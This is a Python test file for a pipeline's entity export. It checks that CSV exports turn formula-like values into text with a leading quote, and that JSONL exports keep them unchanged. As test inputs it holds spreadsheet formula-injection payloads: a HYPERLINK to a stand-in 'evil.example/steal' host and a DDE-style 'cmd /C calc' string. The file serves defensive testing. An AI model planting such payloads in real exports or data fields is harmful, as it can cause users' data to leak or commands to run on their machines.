"""Exports opened in a spreadsheet run no formula: hostile values from a tenant's input and from a provider's
answer come out of the CSV export as text (a leading single quote), and unchanged in JSONL."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

from tests.conftest import PipelineHarness

HOSTILE_NAME = '=HYPERLINK("http://evil.example/steal","click")'
# The sandbox names a company after its domain's first label, so for this domain the provider answers a
# name and a description starting with "=" (and the domain itself is the tenant's input).
HOSTILE_DOMAIN = "=cmd.io"


async def export(pipeline: PipelineHarness, entity_type: str, fmt: str) -> str:
    response = await pipeline.post("/api/v1/entities/export", {"entity_type": entity_type, "format": fmt})
    assert response.status_code == 200, response.text
    return response.text


async def exported(
    pipeline: PipelineHarness, entity_type: str
) -> tuple[list[dict[str, str]], list[dict[str, Any]]]:
    as_csv = list(csv.DictReader(io.StringIO(await export(pipeline, entity_type, "csv"))))
    as_jsonl = [json.loads(line) for line in (await export(pipeline, entity_type, "jsonl")).splitlines()]
    return as_csv, as_jsonl


async def run(
    pipeline: PipelineHarness, operation_id: str, inputs: list[dict[str, Any]], entity_type: str
) -> None:
    blueprint = await pipeline.blueprint(operation_id, [{"position": 1, "operation_id": operation_id}])
    submission = await pipeline.submit(blueprint, inputs, entity_type)
    await pipeline.run_until_idle()
    assert (await pipeline.status(submission))["submission"]["status"] == "completed"


async def test_provider_answers_starting_with_a_formula_export_as_text(pipeline: PipelineHarness) -> None:
    await run(pipeline, "company.enrich.profile", [{"domain": HOSTILE_DOMAIN}], "company")
    (row,), (raw,) = await exported(pipeline, "company")
    assert raw["canonical_domain"] == HOSTILE_DOMAIN and raw["canonical_name"] == "=cmd"
    assert raw["description"].startswith("=cmd is a")
    assert row["canonical_domain"] == "'" + HOSTILE_DOMAIN
    assert row["canonical_name"] == "'=cmd"
    assert row["description"] == "'" + raw["description"]
    # Numbers stay numbers; text that cannot start a formula is untouched.
    assert row["employee_count"] == str(raw["employee_count"]) and row["industry"] == raw["industry"]
    assert row["linkedin_url"] == raw["linkedin_url"]


async def test_hostile_input_fields_export_as_text(pipeline: PipelineHarness) -> None:
    await run(
        pipeline,
        "person.contact.verify_email",
        [{"email": "ava@acme.io", "full_name": HOSTILE_NAME, "title": "@SUM(1+1)*cmd|' /C calc'!A0"}],
        "person",
    )
    (row,), (raw,) = await exported(pipeline, "person")
    assert raw["full_name"] == HOSTILE_NAME
    assert row["full_name"] == "'" + HOSTILE_NAME
    assert row["work_email"] == raw["work_email"] == "ava@acme.io"
    assert raw["title"] is not None and row["title"] == "'" + raw["title"]
